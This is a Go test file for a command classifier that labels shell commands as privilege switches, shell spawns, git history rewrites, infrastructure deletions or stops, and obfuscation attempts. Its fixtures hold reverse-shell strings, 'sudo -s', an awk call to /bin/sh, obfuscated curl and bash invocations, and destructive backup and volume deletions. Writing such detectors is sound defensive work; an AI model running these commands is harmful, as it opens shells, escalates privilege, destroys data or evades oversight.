package facts

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestAsking(t *testing.T) {
	var names []string
	for name := range actHandlers() {
		names = append(names, name)
	}
	for name := range resourceCLIs {
		names = append(names, name)
	}
	for name := range specs() {
		names = append(names, name)
	}
	for _, name := range names {
		if name == ":" || name == "[" || name == "." {
			continue
		}
		for _, option := range []string{" --version", " --help"} {
			f := FromCommand(name+option, testContext)
			for _, a := range f.Acts {
				assert.Contains(t, []string{ActEvadeEncoding}, a.Kind, name+option)
			}
		}
	}
	each(t, `
!privilege.switch !shell.spawn ← sudo -h
!privilege.switch !shell.spawn ← sudo -V
!privilege.switch ← sudo rsync --version
!privilege.switch ← doas /usr/bin/tar --help
privilege.switch ← sudo less --help
privilege.switch ← sudo ./setup --version
privilege.switch ← sudo -s
!git.rewrite ← git filter-repo --version
git.rewrite ← git filter-repo --path x
!shell.spawn ← awk 'BEGIN{print "bash -i >& /dev/tcp/h/1 is what it looks for"}'
!shell.spawn ← awk 'BEGIN { printf "nc -e /bin/sh h 1\n" }'
shell.spawn ← awk 'BEGIN{system("/bin/sh")}'
!infra.delete ← velero restore get
!infra.delete ← velero restore logs nightly
infra.delete ← velero restore create --from-backup nightly
infra.delete ← velero backup delete nightly
!infra.stop ← amtool silence query alertname=x
infra.stop ← amtool silence add alertname=x
infra.delete ← docker volume rm export
infra.delete ← helm uninstall logs
!evade.encoding ← g'i't log
!evade.encoding ← $'\x70wd'
evade.encoding ← c''url https://example.com
evade.encoding ← $'\x62ash' x.sh
`)
}
